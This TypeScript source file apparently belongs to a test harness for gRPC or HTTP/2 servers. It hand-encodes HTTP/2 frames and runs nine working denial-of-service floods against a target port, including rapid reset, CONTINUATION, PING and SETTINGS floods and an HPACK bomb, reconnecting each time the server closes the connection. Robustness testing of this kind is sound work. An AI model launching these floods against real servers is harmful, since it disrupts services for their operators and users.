import { randomBytes } from "node:crypto";
import type { Socket } from "node:net";
import { setTimeout as wait } from "node:timers/promises";
import { ended, repeat, type Attack, type Run } from "./attack.ts";
import { QUERY } from "./crowd.ts";
import { openSocket } from "./wire.ts";

/** Types of frames (RFC 9113 §6). */
const TYPE = { data: 0, headers: 1, priority: 2, reset: 3, settings: 4, ping: 6, windowUpdate: 8, continuation: 9 };
const END_HEADERS = 4;
const CONNECTIONS = 4;
const PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

function frame(type: number, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header[3] = type;
  header[4] = flags;
  header.writeUInt32BE(stream, 5);
  return Buffer.concat([header, payload]);
}

/** A header as HPACK writes it literally, without a table (RFC 7541 §6.2.2). */
function literal(name: string, value: string): Buffer {
  const [nameBytes, valueBytes] = [Buffer.from(name), Buffer.from(value)];
  return Buffer.concat([Buffer.from([0, nameBytes.length]), nameBytes, Buffer.from([valueBytes.length]), valueBytes]);
}

const HEADERS = Buffer.concat([
  Buffer.from([0x83, 0x86]), // :method POST, :scheme http
  literal(":path", QUERY),
  literal(":authority", "x"),
  literal("content-type", "application/grpc"),
]);

function many(count: number, make: (index: number) => Buffer): Buffer {
  return Buffer.concat(Array.from({ length: count }, (_, index) => make(index)));
}

/** A stream that is open, and then the same frame on it again and again. */
function onOneStream(make: () => Buffer): (round: number) => Buffer {
  return (round) => (round === 0 ? frame(TYPE.headers, END_HEADERS, 1, HEADERS) : many(500, make));
}

/** One large header put into the table, then named thousands of times. */
function hpackBomb(round: number): Buffer {
  const large = Buffer.concat([
    Buffer.from([0x40, 1]),
    Buffer.from("a"),
    Buffer.from([0x7f, 0x81, 0x17]),
    Buffer.alloc(3_072, 97),
  ]);
  const more = round === 0 ? large : Buffer.alloc(4_000, 0xbe);
  return frame(TYPE.headers, END_HEADERS, 1 + 2 * round, Buffer.concat([HEADERS, more]));
}

function rapidReset(round: number): Buffer {
  const cancel = Buffer.from([0, 0, 0, 8]);
  return many(50, (index) => {
    const stream = 1 + 2 * (round * 50 + index);
    return Buffer.concat([frame(TYPE.headers, END_HEADERS, stream, HEADERS), frame(TYPE.reset, 0, stream, cancel)]);
  });
}

const CONTINUED = many(20, (index) => literal(`x${index}`, "v".repeat(100)));

const FLOODS: Readonly<Record<string, (round: number) => Buffer>> = {
  "HTTP/2 rapid reset": rapidReset,
  "HTTP/2 PING flood": () => many(500, () => frame(TYPE.ping, 0, 0, Buffer.alloc(8))),
  "HTTP/2 SETTINGS flood": () => many(500, () => frame(TYPE.settings, 0, 0, Buffer.from([0, 4, 0, 1, 0, 0]))),
  "HTTP/2 CONTINUATION flood": (round) =>
    round === 0 ? frame(TYPE.headers, 0, 1, HEADERS) : frame(TYPE.continuation, 0, 1, CONTINUED),
  "HTTP/2 empty DATA flood": onOneStream(() => frame(TYPE.data, 0, 1)),
  "HTTP/2 WINDOW_UPDATE flood": onOneStream(() => frame(TYPE.windowUpdate, 0, 1, Buffer.from([0, 0, 0, 1]))),
  "HTTP/2 PRIORITY flood": (round) =>
    many(500, (index) =>
      frame(TYPE.priority, 0, 1 + 2 * ((round * 500 + index) % 100_000), Buffer.from([0, 0, 0, 0, 1])),
    ),
  "HTTP/2 HPACK bomb": hpackBomb,
  "HTTP/2 garbage": () => randomBytes(4_096),
};

/** Writes rounds as fast as the node takes them, until it closes the connection or the attack is over. */
async function pump(socket: Socket, make: (round: number) => Buffer, signal: AbortSignal): Promise<void> {
  const closed = new Promise<void>((resolve) => socket.once("close", () => resolve()));
  for (let round = 0; !signal.aborted && !socket.destroyed; round++) {
    const isTaken = new Promise<void>((resolve) => socket.write(make(round), () => resolve()));
    await Promise.race([isTaken, closed, ended(signal)]);
    if (round % 20 === 19) await wait(1);
  }
}

/** The nine floods of frames; a connection that the node closes is opened again. */
export function frameFloods(): Attack[] {
  return Object.entries(FLOODS).map(([name, make]) => ({ name, prepare: () => floodFrames(make) }));
}

function floodFrames(make: (round: number) => Buffer): Run {
  return async ({ port }, signal) => {
    await repeat(CONNECTIONS, signal, async () => {
      const socket = await openSocket(port);
      if (socket === undefined) {
        await wait(20);
        return;
      }
      socket.write(Buffer.concat([Buffer.from(PREFACE), frame(TYPE.settings, 0, 0)]));
      await pump(socket, make, signal);
      socket.destroy();
    });
  };
}
